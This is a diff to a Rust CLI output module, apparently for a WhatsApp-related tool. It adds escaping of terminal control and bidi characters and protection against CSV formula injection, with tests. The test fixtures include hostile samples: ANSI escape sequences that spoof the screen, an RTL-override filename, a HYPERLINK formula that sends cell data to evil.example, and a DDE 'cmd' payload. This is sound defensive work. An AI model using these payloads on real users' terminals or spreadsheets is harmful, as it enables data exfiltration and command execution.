@@ -1,6 +1,10 @@
-//! Rendering command results on stdout as a table, CSV or JSON.
+//! Rendering command results on stdout as a table, CSV or JSON, and making
+//! every human-readable byte safe to show: text from outside (a WhatsApp
+//! profile name, a message, an error Meta relays) passes through [`escape`]
+//! before it reaches a terminal or a spreadsheet; JSON keeps it exact.
 
-use std::fmt::Display;
+use std::borrow::Cow;
+use std::fmt::{self, Display, Write as _};
 use std::io::{self, Write};
 
 use clap::ValueEnum;
@@ -35,7 +39,10 @@ pub fn rows<T: Row>(out: &mut dyn Write, format: Format, items: &[T]) -> io::Res
             let mut w = csv::Writer::from_writer(out);
             w.write_record(T::HEADERS)?;
             for item in items {
-                w.write_record(item.cells())?;
+                for cell in item.cells() {
+                    w.write_field(csv_cell(&cell).as_bytes())?;
+                }
+                w.write_record(None::<&[u8]>)?;
             }
             w.flush()
         }
@@ -46,7 +53,7 @@ pub fn rows<T: Row>(out: &mut dyn Write, format: Format, items: &[T]) -> io::Res
                 .set_content_arrangement(ContentArrangement::Disabled)
                 .set_header(T::HEADERS);
             for item in items {
-                table.add_row(item.cells());
+                table.add_row(item.cells().iter().map(|c| escape(c)));
             }
             writeln!(out, "{table}")
         }
@@ -61,7 +68,7 @@ pub fn one<T: Row>(out: &mut dyn Write, format: Format, item: &T) -> io::Result<
         Format::Table => {
             let width = T::HEADERS.iter().map(|h| h.len()).max().unwrap_or(0);
             for (h, v) in T::HEADERS.iter().zip(item.cells()) {
-                writeln!(out, "{h:>width$}: {v}")?;
+                writeln!(out, "{h:>width$}: {}", escape(&v))?;
             }
             Ok(())
         }
@@ -76,11 +83,292 @@ pub fn summary<T: Serialize + Display>(
 ) -> io::Result<()> {
     match format {
         Format::Json => json(out, item),
-        Format::Table | Format::Csv => write!(out, "{item}"),
+        Format::Table | Format::Csv => out.write_all(escape_text(&item.to_string()).as_bytes()),
     }
 }
 
 fn json<T: Serialize + ?Sized>(out: &mut dyn Write, value: &T) -> io::Result<()> {
     serde_json::to_writer_pretty(&mut *out, value)?;
     writeln!(out)
+}
+
+// ---------------------------------------------------------------------------
+// Making text from outside safe to show
+// ---------------------------------------------------------------------------
+
+/// Characters that show nothing yet change how text around them looks: bidi
+/// embeddings, overrides, isolates and marks (which can make `gpj.exe` read
+/// `exe.jpg`), zero-width spaces and joiners, the line and paragraph
+/// separators, and the byte-order mark. Members' details never keep them.
+pub fn is_invisible(c: char) -> bool {
+    matches!(
+        c,
+        '\u{00ad}'
+            | '\u{061c}'
+            | '\u{180e}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{2064}'
+            | '\u{2066}'..='\u{206f}'
+            | '\u{feff}'
+    )
+}
+
+/// Writes `c` so that it is seen rather than obeyed: control characters in
+/// Rust's `\u{1b}` style, invisible ones as `<U+202E>`.
+fn push_escaped(out: &mut String, c: char) {
+    match c {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        c if c.is_control() => {
+            let _ = write!(out, "\\u{{{:x}}}", c as u32);
+        }
+        c => {
+            let _ = write!(out, "<U+{:04X}>", c as u32);
+        }
+    }
+}
+
+fn escape_where(s: &str, keep_newlines: bool) -> Cow<'_, str> {
+    let bad = |c: char| (c.is_control() && !(keep_newlines && c == '\n')) || is_invisible(c);
+    let Some(first) = s.find(bad) else {
+        return Cow::Borrowed(s);
+    };
+    let mut out = String::with_capacity(s.len() + 16);
+    out.push_str(&s[..first]);
+    for c in s[first..].chars() {
+        if bad(c) {
+            push_escaped(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// One value (a table cell, a field) as it may be shown on a terminal:
+/// control, bidi and zero-width characters (newlines too) are escaped.
+pub fn escape(s: &str) -> Cow<'_, str> {
+    escape_where(s, false)
+}
+
+/// Text of several lines (a summary, a log line, an error): as [`escape`],
+/// but its line breaks stay line breaks.
+pub fn escape_text(s: &str) -> Cow<'_, str> {
+    escape_where(s, true)
+}
+
+/// What a spreadsheet would read as the start of a formula (OWASP's list).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell needs the protecting apostrophe: it starts a formula once
+/// any apostrophes in front are dropped. Counting those apostrophes in makes
+/// protection reversible: a name that really is `'=x` is written `''=x`.
+fn needs_protection(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A CSV cell as written: escaped like text (its line breaks stay, quoted),
+/// and with a leading `'` when a spreadsheet would otherwise run it as a
+/// formula. [`unprotect_csv`] undoes exactly that apostrophe.
+fn csv_cell(s: &str) -> Cow<'_, str> {
+    let text = escape_text(s);
+    if needs_protection(&text) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        text
+    }
+}
+
+/// A cell read back from a CSV: the apostrophe [`csv_cell`] added is dropped
+/// (and only that one), so an export re-imports to the same values.
+pub fn unprotect_csv(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_protection(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// Writes one line to stderr, escaped: use [`log_line!`](crate::log_line).
+pub fn log(args: fmt::Arguments<'_>) {
+    let line = args.to_string();
+    let mut err = io::stderr().lock();
+    let _ = writeln!(err, "{}", escape_text(&line));
+}
+
+/// `eprintln!` for mot: every log line on stderr passes through
+/// [`escape_text`], whatever it quotes.
+#[macro_export]
+macro_rules! log_line {
+    ($($arg:tt)*) => {
+        $crate::output::log(format_args!($($arg)*))
+    };
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HOSTILE: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[32mALL CLEAR\u{1b}]0;pwned\u{7}";
+
+    #[derive(Serialize)]
+    struct Cell {
+        text: String,
+    }
+
+    impl Row for Cell {
+        const HEADERS: &'static [&'static str] = &["text"];
+        fn cells(&self) -> Vec<String> {
+            vec![self.text.clone()]
+        }
+    }
+
+    fn render(format: Format, text: &str) -> String {
+        let mut out = Vec::new();
+        rows(
+            &mut out,
+            format,
+            &[Cell {
+                text: text.to_string(),
+            }],
+        )
+        .unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    fn shows_nothing_hidden(s: &str) -> bool {
+        !s.chars()
+            .any(|c| (c.is_control() && c != '\n') || is_invisible(c))
+    }
+
+    #[test]
+    fn terminal_escapes_are_shown_not_obeyed_in_tables_and_csv() {
+        for text in [
+            HOSTILE,
+            "invoice\u{202e}fdp.exe",
+            "a\u{2066}b\u{2069}c\u{200b}d\u{feff}",
+            "line\r\nnext\u{85}",
+        ] {
+            for format in [Format::Table, Format::Csv] {
+                let out = render(format, text);
+                assert!(shows_nothing_hidden(&out), "{format:?}: {out:?}");
+            }
+        }
+        let table = render(Format::Table, HOSTILE);
+        assert!(table.contains("\\u{1b}[2J"), "{table}");
+        assert!(render(Format::Table, "x\u{202e}y").contains("x<U+202E>y"));
+        assert!(render(Format::Table, "a\nb").contains("a\\nb"));
+    }
+
+    #[test]
+    fn json_keeps_the_data_exact() {
+        let out = render(Format::Json, HOSTILE);
+        let back: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
+        assert_eq!(back[0]["text"], HOSTILE);
+    }
+
+    #[test]
+    fn one_and_summary_escape_but_keep_line_breaks() {
+        let mut out = Vec::new();
+        one(
+            &mut out,
+            Format::Table,
+            &Cell {
+                text: HOSTILE.into(),
+            },
+        )
+        .unwrap();
+        assert!(shows_nothing_hidden(&String::from_utf8(out).unwrap()));
+
+        let mut out = Vec::new();
+        summary(
+            &mut out,
+            Format::Table,
+            &format!("one {HOSTILE}\ntwo\u{202e}\n"),
+        )
+        .unwrap();
+        let out = String::from_utf8(out).unwrap();
+        assert!(shows_nothing_hidden(&out), "{out:?}");
+        assert_eq!(out.lines().count(), 2);
+        assert!(out.ends_with("two<U+202E>\n"));
+    }
+
+    #[test]
+    fn plain_text_is_borrowed_unchanged() {
+        let s = "Asha Patel, Riverside Pharmacy — Leeds 💊 أحمد";
+        assert!(matches!(escape(s), Cow::Borrowed(x) if x == s));
+    }
+
+    #[test]
+    fn csv_formula_cells_get_an_apostrophe_that_import_removes() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click me\")",
+                true,
+            ),
+            ("+cmd|' /C calc'!A0", true),
+            ("@SUM(1+1)", true),
+            ("-2+3", true),
+            ("=1+1", true),
+            ("+447700900001", true),
+            ("'=already quoted", true),
+            ("''+x", true),
+            ("Asha Patel", false),
+            ("O'Brien", false),
+            ("'quoted'", false),
+            ("", false),
+        ];
+        for (value, protected) in cases {
+            let written = csv_cell(value);
+            assert_eq!(
+                written.starts_with('\'') && written != value,
+                protected,
+                "{value}"
+            );
+            assert!(!written.starts_with(FORMULA_START), "{value}");
+            assert_eq!(unprotect_csv(&written), value, "round trip of {value}");
+        }
+        // Tab and CR cannot start a written cell: they are escaped first.
+        assert_eq!(csv_cell("\t=1"), "\\t=1");
+        assert_eq!(unprotect_csv("'\t=1"), "\t=1");
+        assert_eq!(unprotect_csv("'\r"), "\r");
+    }
+
+    #[test]
+    fn csv_output_starts_no_cell_with_a_formula() {
+        let out = render(Format::Csv, "=1+1");
+        assert_eq!(out, "text\n'=1+1\n");
+        let out = render(Format::Csv, "+447700900001");
+        assert_eq!(out, "text\n'+447700900001\n");
+    }
+
+    /// Every stderr line goes through [`log`]: a raw `eprintln!` elsewhere
+    /// would print whatever it quotes (a payload's reason, a file's cell) as is.
+    #[test]
+    fn log_lines_only_through_log_line() {
+        fn visit(dir: &std::path::Path, found: &mut Vec<String>) {
+            for entry in std::fs::read_dir(dir).unwrap() {
+                let path = entry.unwrap().path();
+                if path.is_dir() {
+                    visit(&path, found);
+                } else if path.extension().is_some_and(|e| e == "rs")
+                    && !path.ends_with("output.rs")
+                {
+                    let text = std::fs::read_to_string(&path).unwrap();
+                    for (n, line) in text.lines().enumerate() {
+                        if line.contains("eprintln!(") || line.contains("eprint!(") {
+                            found.push(format!("{}:{}", path.display(), n + 1));
+                        }
+                    }
+                }
+            }
+        }
+        let mut found = Vec::new();
+        visit(
+            &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"),
+            &mut found,
+        );
+        assert!(found.is_empty(), "use crate::log_line! instead: {found:?}");
+    }
 }
